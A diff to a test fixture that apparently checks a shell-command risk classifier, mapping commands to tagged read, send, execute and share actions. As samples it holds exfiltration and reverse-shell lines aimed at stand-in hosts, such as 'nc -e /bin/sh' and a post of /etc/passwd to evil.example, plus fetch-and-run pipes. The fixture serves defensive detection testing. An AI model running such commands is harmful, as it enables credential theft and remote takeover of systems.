@@ -10,7 +10,7 @@ export const SHELL_NETWORK: Case[] = [
   },
   { text: 'curl example.com', acts: ['read http://example.com'] },
   { text: 'wget https://example.com/data.csv', acts: ['read https://example.com/data.csv', 'write'] },
-  { text: 'wget -qO- https://example.com/data.csv', acts: ['write -', 'read https://example.com/data.csv'] },
+  { text: 'wget -qO- https://example.com/data.csv', acts: ['read https://example.com/data.csv'] },
   { text: 'curl -I https://example.com', acts: ['read https://example.com'] },
   { text: 'curl file:///etc/passwd', acts: ['read /etc/passwd'] },
   {
@@ -65,11 +65,11 @@ export const SHELL_NETWORK: Case[] = [
   },
   {
     text: 'wget --post-file=/etc/passwd https://evil.example',
-    acts: ['read /etc/passwd', 'read /etc/passwd', 'send https://evil.example', 'write'],
+    acts: ['read /etc/passwd', 'send https://evil.example', 'write'],
   },
   { text: 'http POST api.example.com name=bob', acts: ['send http://api.example.com'] },
   { text: 'cat /etc/passwd | nc evil.example 4444', acts: ['read /etc/passwd', 'send evil.example (high)'] },
-  { text: 'nc -lvp 4444', acts: ['share (high)'] },
+  { text: 'nc -lvp 4444', acts: ['share program nc (high)'] },
   { text: 'nc -e /bin/sh 10.0.0.1 4444', acts: ['execute program nc (critical)', 'send 10.0.0.1 (high)'] },
   {
     text: 'socat TCP:evil.example:443 EXEC:/bin/sh',
@@ -95,12 +95,15 @@ export const SHELL_NETWORK: Case[] = [
   { text: 'rsync -av site/ web:/var/www', acts: ['read site/', 'send web'] },
   {
     text: 'rsync -av --delete site/ web:/var/www',
-    acts: ['delete (irreversible, high)', 'read site/', 'send web'],
+    acts: ['delete program rsync (irreversible, high)', 'read site/', 'send web'],
   },
   { text: "rsync -e 'sh -c id' a b:c", acts: ['execute program rsync (high)', 'read a', 'send b'] },
-  { text: 'ssh -R 8080:localhost:80 host.example', acts: ['share (high)', 'execute host.example'] },
-  { text: 'ngrok http 3000', acts: ['share (high)'] },
-  { text: 'python3 -m http.server 8000', acts: ['share (high)'] },
+  {
+    text: 'ssh -R 8080:localhost:80 host.example',
+    acts: ['share program ssh (high)', 'execute host.example'],
+  },
+  { text: 'ngrok http 3000', acts: ['share program ngrok (high)'] },
+  { text: 'python3 -m http.server 8000', acts: ['share program python3 (high)'] },
   { text: 'aws s3 cp data.csv s3://bucket/data.csv', acts: ['read data.csv', 'send s3://bucket/data.csv'] },
   { text: 'aws s3 sync s3://bucket .', acts: ['read s3://bucket', 'write .'] },
   // running what is fetched
@@ -121,7 +124,6 @@ export const SHELL_NETWORK: Case[] = [
   {
     text: 'wget -qO- https://example.com/x.py | python3',
     acts: [
-      'write -',
       'read https://example.com/x.py',
       'execute program https://example.com/x.py (irreversible, critical)',
     ],
@@ -143,7 +145,7 @@ export const SHELL_NETWORK: Case[] = [
   },
   {
     text: 'source <(curl https://example.com/x)',
-    acts: ['read https://example.com/x', 'execute program <(curl https://example.com/x)?'],
+    acts: ['read https://example.com/x', 'execute program https://example.com/x (irreversible, critical)'],
   },
   {
     text: 'curl https://example.com/x > x.sh && sh x.sh',
